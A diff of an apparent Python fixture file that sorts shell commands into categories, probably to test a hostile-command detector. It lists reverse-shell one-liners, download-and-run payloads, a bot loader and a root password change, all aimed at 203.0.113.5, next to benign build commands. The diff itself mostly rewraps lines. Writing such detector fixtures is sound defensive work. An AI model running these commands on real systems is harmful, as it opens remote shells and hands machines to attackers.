@@ -27,7 +27,8 @@ ACTS = [
     "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
     "nc 203.0.113.5 4444 | sh",
     "socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty",
-    "python3 -c \"import socket,os,pty; s=socket.socket(); s.connect(('203.0.113.5',4444)); os.dup2(s.fileno(),0); pty.spawn('sh')\"",
+    "python3 -c \"import socket,os,pty; s=socket.socket(); s.connect(('203.0.113.5',4444)); os.dup2(s.fileno(),0); "
+    "pty.spawn('sh')\"",
     "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,$x); exec(\"/bin/sh -i\");'",
     "php -r '$s=fsockopen(\"203.0.113.5\",4444); exec(\"/bin/sh -i <&3 >&3\");'",
     "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.5\",4444); exec \"/bin/sh\"'",
@@ -126,9 +127,10 @@ SESSIONS = {
     "several ways in": ["wget http://203.0.113.5/b.sh", "tftp 203.0.113.5 -c get b.sh", "sh b.sh"],
     "loader of a bot": ["enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QWERT"],
     "file by scp's far side": ["scp -t /tmp/aBcD1234", "cd /tmp && chmod +x aBcD1234 && bash -c ./aBcD1234"],
-    "program typed in": ["cat > /usr/bin/qwerty", "chmod +x /usr/bin/qwerty", "scp -tr /usr/libexec/", "C0755 3270720 qwerty"],
+    "program typed in": ["cat > /usr/bin/qwerty", "chmod +x /usr/bin/qwerty", "scp -tr /usr/libexec/", "C0755 32707 qwerty"],
     "profile of the machine": [
-        "uname -a", "cat /proc/cpuinfo | grep name | head -n 1", "free -m | grep Mem", "lspci | grep VGA", "w", "crontab -l",
+        "uname -a", "cat /proc/cpuinfo | grep name | head -n 1", "free -m | grep Mem", "lspci | grep VGA", "w",
+        "crontab -l",
     ],
     "new password": ["w", "cat /proc/cpuinfo | grep name | wc -l", "echo root:x | chpasswd"],
 }  # fmt: skip
@@ -154,8 +156,9 @@ EXPLORING = [
     "python3 --version",
 ]
 BUILDING = [
-    "git clone https://git.example/app.git", "cd app", "ls", "cat README.md", "pip install -e .", "pytest -q", "grep -rn total src",
-    "sed -n 1,40p src/app.py", "chmod +x run_tests.sh", "./run_tests.sh", "git diff", "ps aux | head", "df -h", "curl -s http://localhost:8080/",
+    "git clone https://git.example/app.git", "cd app", "ls", "cat README.md", "pip install -e .", "pytest -q",
+    "grep -rn total src", "sed -n 1,40p src/app.py", "chmod +x run_tests.sh", "./run_tests.sh", "git diff", "ps aux | head", "df -h",
+    "curl -s http://localhost:8080/",
 ]  # fmt: skip
 
 
